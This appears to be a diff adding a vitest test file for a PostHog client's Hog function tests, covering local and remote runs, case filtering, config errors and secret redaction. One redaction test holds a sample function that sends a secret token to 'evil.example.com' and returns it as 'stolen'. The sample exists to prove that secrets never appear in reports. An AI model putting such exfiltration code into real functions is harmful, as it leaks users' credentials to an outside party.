@@ -1,0 +1,192 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterEach, describe, expect, it } from 'vitest'
+import { InvalidArgumentError, ProjectClient } from 'posthog-project-client'
+import { ConfigError, readConfig, testHogFunctions, type HogTestReport } from 'posthog-project-client/config'
+import { createFakeApi } from 'posthog-project-client/testing'
+
+/** Hog function tests beside the specs: read with file and line, run locally and through the fake's invocations. */
+
+const SECRET = 'whsec-do-not-print-0123'
+const ENV = { POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN: SECRET }
+
+const spec = (body: string) => `name: Order webhook
+type: destination
+hog: |
+  let res := fetch(inputs.url, {
+    'method': 'POST',
+    'headers': {'Authorization': f'Bearer {inputs.api_token}', 'Content-Type': 'application/json'},
+    'body': ${body}
+  })
+  print('sent', res.status)
+inputs_schema:
+  - { key: url, type: string, label: URL, required: true }
+  - { key: api_token, type: string, label: Token, secret: true }
+inputs:
+  url: { value: 'https://hooks.example.com/orders/{event.properties.order_id}' }
+  api_token: { value: { $env: POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN } }
+filters:
+  events: [{ id: order_placed, type: events, name: order_placed, order: 0 }]
+`
+const GOOD_BODY = "{'event': event.event, 'total': event.properties.total, 'currency': 'EUR'}"
+/** A pull request's mistake: the total read from a property that is not there. */
+const BROKEN_BODY = "{'event': event.event, 'total': event.properties.amount, 'currency': 'EUR'}"
+
+const TESTS = `- name: sends the order
+  event:
+    event: order_placed
+    distinct_id: user-1
+    properties: { order_id: 'A-17', total: 25 }
+  expect:
+    calls:
+      - method: POST
+        url: https://hooks.example.com/orders/A-17
+        headers: { Authorization: Bearer ***REDACTED*** }
+        body: { event: order_placed, total: 25, currency: EUR }
+    logs: ['sent, 200']
+- name: ignores other events
+  event: { event: $pageview }
+  expect: { skipped: true }
+- name: a failed delivery is logged
+  event: { event: order_placed, properties: { order_id: 'B-2', total: 3 } }
+  fetch: [{ status: 500, body: { error: down } }]
+  expect:
+    calls: [{ url: https://hooks.example.com/orders/B-2, bodyIncludes: { total: 3 } }]
+    logs: ['sent, 500']
+`
+
+describe('hog function tests', () => {
+  const folders: string[] = []
+  const folder = (files: Record<string, string>) => {
+    const root = mkdtempSync(join(tmpdir(), 'posthog-hog-tests-'))
+    folders.push(root)
+    const dir = join(root, 'posthog')
+    mkdirSync(join(dir, 'hog-functions'), { recursive: true })
+    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, 'hog-functions', name), text)
+    return dir
+  }
+  afterEach(() => {
+    for (const root of folders.splice(0)) rmSync(root, { recursive: true, force: true })
+  })
+  const verdicts = (report: HogTestReport) => report.cases.map((item) => [item.name, item.ok, item.differences.map((d) => d.path)])
+
+  it('readConfig reads <name>.test.yaml as the tests of <name>, never as a spec', async () => {
+    const dir = folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS })
+    const config = await readConfig(dir)
+    expect(config.hogFunctions?.map((item) => item.name)).toEqual(['Order webhook'])
+    const report = await testHogFunctions(config, { env: ENV })
+    expect(report.cases.map((item) => [item.function, item.name])).toEqual([
+      ['Order webhook', 'sends the order'],
+      ['Order webhook', 'ignores other events'],
+      ['Order webhook', 'a failed delivery is logged'],
+    ])
+  })
+
+  it('the unbroken webhook passes every case; a broken body fails with the call and the field named', async () => {
+    const good = await testHogFunctions(await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS })), { env: ENV })
+    expect(good.cases.filter((item) => !item.ok).map((item) => item.differences)).toEqual([])
+    expect(good).toMatchObject({ passed: 3, failed: 0 })
+    expect(good.cases[0]?.calls[0]).toMatchObject({ method: 'POST', url: 'https://hooks.example.com/orders/A-17', body: { total: 25 } })
+
+    const broken = await testHogFunctions(await readConfig(folder({ 'Order-webhook.yaml': spec(BROKEN_BODY), 'Order-webhook.test.yaml': TESTS })), { env: ENV })
+    expect(broken).toMatchObject({ passed: 1, failed: 2 })
+    expect(broken.cases[0]?.differences).toEqual([
+      { path: 'calls[0].body.total', expected: 25, got: null, message: 'call 1 (POST https://hooks.example.com/orders/A-17): body.total: expected 25, got null' },
+    ])
+    expect(broken.cases[2]?.differences.map((d) => d.message)).toEqual(['call 1 (POST https://hooks.example.com/orders/B-2): body.total: expected 3, got null'])
+  })
+
+  it('--remote: the fake\'s invocations give the same verdicts, with the calls read from its mock lines', async () => {
+    const fake = createFakeApi({ allowUnscopedActions: true })
+    const client = new ProjectClient({ ...fake.clientOptions(), fetch: fake.fetch })
+    const remoteOnly = TESTS.split('- name: a failed delivery')[0]!
+    for (const body of [GOOD_BODY, BROKEN_BODY]) {
+      const config = await readConfig(folder({ 'Order-webhook.yaml': spec(body), 'Order-webhook.test.yaml': remoteOnly }))
+      const local = await testHogFunctions(config, { env: ENV })
+      const from = fake.requests.length
+      const remote = await testHogFunctions(config, { env: ENV, remote: true, client })
+      expect(verdicts(remote)).toEqual(verdicts(local))
+      expect(remote.cases.map((item) => item.calls)).toEqual(local.cases.map((item) => item.calls))
+      const sent = fake.requests.slice(from)
+      expect(sent.map((request) => `${request.method} ${request.path}`)).toEqual([
+        'POST /api/projects/1/hog_functions/new/invocations/',
+        'POST /api/projects/1/hog_functions/new/invocations/',
+      ])
+      expect(sent[0]?.body).toMatchObject({ mock_async_functions: true, globals: { event: { event: 'order_placed' } }, configuration: { name: 'Order webhook' } })
+    }
+    expect(verdicts(await testHogFunctions(await readConfig(folder({ 'Order-webhook.yaml': spec(BROKEN_BODY), 'Order-webhook.test.yaml': remoteOnly })), { env: ENV, remote: true, client }))).toEqual([
+      ['sends the order', false, ['calls[0].body.total']],
+      ['ignores other events', true, []],
+    ])
+  })
+
+  it('--remote refuses fetch answers it cannot give the service, naming them', async () => {
+    const fake = createFakeApi({ allowUnscopedActions: true })
+    const client = new ProjectClient({ ...fake.clientOptions(), fetch: fake.fetch })
+    const config = await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS }))
+    const report = await testHogFunctions(config, { env: ENV, remote: true, client, filter: { cases: ['a failed delivery is logged'] } })
+    expect(report.cases[0]).toMatchObject({ ok: false, differences: [{ path: 'fetch' }] })
+  })
+
+  it('a secret is never in the report, even when the code logs, returns or sends it where no redaction looks', async () => {
+    const leaky = `name: Order webhook
+type: transformation
+hog: |
+  print('token is', inputs.note)
+  fetch('https://evil.example.com/' || inputs.note, {'body': {'leak': inputs.note}})
+  return {'stolen': inputs.note}
+inputs_schema: [{ key: note, type: string, label: Note }]
+inputs: { note: { value: { $env: POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN } } }
+`
+    const tests = `- name: leaks
+  event: { event: order_placed }
+  expect: { calls: [{ body: { leak: nothing } }], result: { stolen: nothing }, logs: [never printed] }
+`
+    const report = await testHogFunctions(await readConfig(folder({ 'Order-webhook.yaml': leaky, 'Order-webhook.test.yaml': tests })), { env: ENV })
+    expect(report.failed).toBe(1)
+    const text = JSON.stringify(report)
+    expect(text).toContain('"got":"(secret)"')
+    expect(text).not.toContain(SECRET)
+    expect(text).not.toContain(encodeURIComponent(SECRET))
+  })
+
+  it('a secret whose variable is not set fails each case of its function, naming the variable only', async () => {
+    const config = await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS }))
+    const report = await testHogFunctions(config, { env: {} })
+    expect(report.failed).toBe(3)
+    expect(report.cases[0]?.differences[0]?.message).toContain('POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN is not set')
+  })
+
+  it('selects functions and cases; a name that matches nothing is an InvalidArgumentError', async () => {
+    const config = await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS }))
+    const one = await testHogFunctions(config, { env: ENV, filter: { keys: ['Order webhook'], cases: ['ignores other events'] } })
+    expect(one.cases.map((item) => item.name)).toEqual(['ignores other events'])
+    await expect(testHogFunctions(config, { env: ENV, filter: { keys: ['Nope'] } })).rejects.toThrow(InvalidArgumentError)
+    await expect(testHogFunctions(config, { env: ENV, filter: { cases: ['nope'] } })).rejects.toThrow(InvalidArgumentError)
+  })
+
+  it('problems of a test file carry file and line; a test file without its spec is one; JSON files are read too', async () => {
+    const bad = `- name: one
+  event: { event: order_placed }
+  expect:
+    calls:
+      - methd: POST
+- name: one
+  event: { event: x }
+  expect: {}
+`
+    const dir = folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': bad, 'Gone.test.yaml': TESTS })
+    const error = await readConfig(dir).catch((caught: unknown) => caught)
+    expect(error).toBeInstanceOf(ConfigError)
+    const problems = (error as ConfigError).problems.map((problem) => [problem.file.split('posthog/')[1], problem.line, problem.path])
+    expect(problems).toEqual([
+      ['hog-functions/Gone.test.yaml', 0, ''],
+      ['hog-functions/Order-webhook.test.yaml', 5, '[0].expect.calls[0].methd'],
+      ['hog-functions/Order-webhook.test.yaml', 6, '[1].name'],
+    ])
+    const json = JSON.stringify([{ name: 'json case', event: { event: '$pageview' }, expect: { skipped: true } }])
+    const read = await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.json': json }))
+    expect(await testHogFunctions(read, { env: ENV })).toMatchObject({ passed: 1, failed: 0 })
+  })
+})
